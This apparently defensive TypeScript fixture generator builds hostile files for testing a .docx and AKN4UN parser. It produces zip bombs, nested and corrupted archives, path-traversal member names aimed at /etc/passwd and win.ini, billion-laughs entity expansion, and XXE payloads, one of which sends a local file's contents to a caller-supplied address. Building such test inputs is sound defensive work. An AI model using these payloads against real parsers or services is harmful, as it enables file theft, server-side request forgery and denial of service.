import { strToU8, type Zippable, zipSync } from 'fflate'

/** A file that means harm, made by code: none is kept anywhere. */
export type HostileFile = { readonly name: string; readonly bytes: () => Uint8Array }

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const wordsIn = (body: string, before = ''): Uint8Array =>
  strToU8(
    `${before}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`,
  )
/** Nothing packs well however little effort is taken. */
const quick = { level: 1 } as const
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000)

/** Archives that would grow without end, that lie about themselves, or whose names lead out of their folder. */
export function archiveAttacks(): HostileFile[] {
  const files: HostileFile[] = []
  const add = (name: string, bytes: () => Uint8Array) => files.push({ name, bytes })

  for (const part of [
    'document',
    'styles',
    'numbering',
    'footnotes',
    'endnotes',
    'header1',
    'comments',
    'settings',
  ])
    add(`word/${part}.xml of 12 MB of nothing`, () =>
      zipSync({ 'word/document.xml': wordsIn('words'), [`word/${part}.xml`]: zeros(12) }, quick),
    )
  for (const size of [11, 25, 50])
    add(`a paragraph of ${size} MB of one letter`, () =>
      zipSync({ 'word/document.xml': wordsIn('a'.repeat(size * 1_000_000)) }, quick),
    )
  for (const parts of [3, 9])
    add(`${parts} parts of 8 MB each`, () =>
      zipSync(
        Object.fromEntries(Array.from({ length: parts }, (_, n) => [`word/p${n}.xml`, zeros(8)])),
        quick,
      ),
    )
  for (const depth of [1, 2, 5]) add(`archives in archives, ${depth} deep`, () => nested(depth))
  for (const members of [2_001, 4_000])
    add(`${members} empty parts`, () =>
      zipSync(Object.fromEntries(Array.from({ length: members }, (_, n) => [`${n}.xml`, strToU8('')]))),
    )
  for (const size of [0, 1, 1_000, 0x7fff_ffff, 0xffff_ffff])
    add(`a part that says it has ${size} bytes and has others`, () =>
      altered(bomb(), (view, at) => view.setUint32(at + 24, size, true)),
    )
  add('parts that overlap', () =>
    altered(zipSync({ 'word/document.xml': noise(40_000), b: noise(40_000), c: noise(40_000) }), (view, at) =>
      view.setUint32(at + 20, 110_000, true),
    ),
  )
  add('a part that begins behind the end', () =>
    altered(bomb(), (view, at) => view.setUint32(at + 42, 0x7fff_0000, true)),
  )
  add('a way of packing that nobody has', () =>
    altered(bomb(), (view, at) => view.setUint16(at + 10, 97, true)),
  )
  add('an encrypted part', () =>
    altered(zipSync({ 'word/document.xml': wordsIn('words') }), (view, at) =>
      view.setUint16(at + 8, 1, true),
    ),
  )
  add('a directory cut short', () => bomb().slice(0, -30))
  add('a directory of nothing', () => Uint8Array.of(0x50, 0x4b, 5, 6, ...new Uint8Array(18)))

  for (const name of slips)
    add(`the name ${JSON.stringify(name).slice(0, 60)}`, () =>
      zipSync({ [name]: wordsIn('words') } as Zippable),
    )
  return files
}

/** Names that lead elsewhere, to other systems' roots, or only seem to be the document's. */
const slips = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/word/document.xml',
  'C:\\word\\document.xml',
  'word/../../word/document.xml',
  'word//document.xml',
  './word/document.xml',
  'word\\document.xml',
  'WORD/DOCUMENT.XML',
  'word/document.xml\u0000.txt',
  'word/\u202elmx.tnemucod',
  'word/document.xml/',
  `${'../'.repeat(4000)}etc/passwd`,
]

/** XML that asks for what is not its own, or grows; `file` and `address` hold what must not come out. */
export function xmlAttacks(file: string, address: string): HostileFile[] {
  const doctypes: readonly (readonly [string, string])[] = [
    ['a file', `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${file}">]>`],
    ['an address', `<!DOCTYPE x [<!ENTITY a SYSTEM "${address}">]>`],
    ['a public name', `<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${address}">`],
    ['a definition elsewhere', `<!DOCTYPE x SYSTEM "${address}">`],
    ['a parameter', `<!DOCTYPE x [<!ENTITY % p SYSTEM "${address}"> %p;]>`],
    [
      'a file sent to an address',
      `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % e "<!ENTITY a SYSTEM '${address}?%f;'>"> %e;]>`,
    ],
    ['entities in entities', `<!DOCTYPE x [<!ENTITY b "bbbbbbbbbb">${laughs()}]>`],
    ['one long entity, often', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`],
    ['an attribute of default', '<!DOCTYPE x [<!ATTLIST x a CDATA "aaaa"><!ENTITY a "a">]>'],
    [
      'a notation',
      `<!DOCTYPE x [<!NOTATION n SYSTEM "${address}"><!ENTITY a SYSTEM "file://${file}" NDATA n>]>`,
    ],
  ]
  return doctypes.flatMap(([name, doctype]) => [
    {
      name: `${name}, in a .docx`,
      bytes: () => zipSync({ 'word/document.xml': wordsIn('&a;'.repeat(1000), doctype) }),
    },
    {
      name: `${name}, in AKN4UN`,
      bytes: () =>
        strToU8(`<?xml version="1.0"?>${doctype}<akomaNtoso><p>${'&a;'.repeat(1000)}</p></akomaNtoso>`),
    },
  ])
}

function laughs(): string {
  const entity = (n: number) => `<!ENTITY a${n} "${`&${n === 1 ? 'b' : `a${n - 1}`};`.repeat(10)}">`
  return `${Array.from({ length: 9 }, (_, n) => entity(n + 1)).join('')}<!ENTITY a "&a9;">`
}

const bomb = (): Uint8Array => zipSync({ 'word/document.xml': zeros(12) }, quick)

function nested(depth: number): Uint8Array {
  let inner = bomb()
  for (let n = 0; n < depth; n++)
    inner = zipSync({ [`${n}.docx`]: inner, [`again${n}.docx`]: inner }, { level: 0 })
  return inner
}

/** Changes the first entry of an archive's directory (PKWARE APPNOTE 4.3.12). */
function altered(bytes: Uint8Array, change: (view: DataView, at: number) => void): Uint8Array {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  change(view, view.getUint32(bytes.length - 22 + 16, true))
  return bytes
}

/** Bytes that do not pack. */
function noise(length: number): Uint8Array {
  let state = 1
  return Uint8Array.from({ length }, () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
    return state >> 16
  })
}
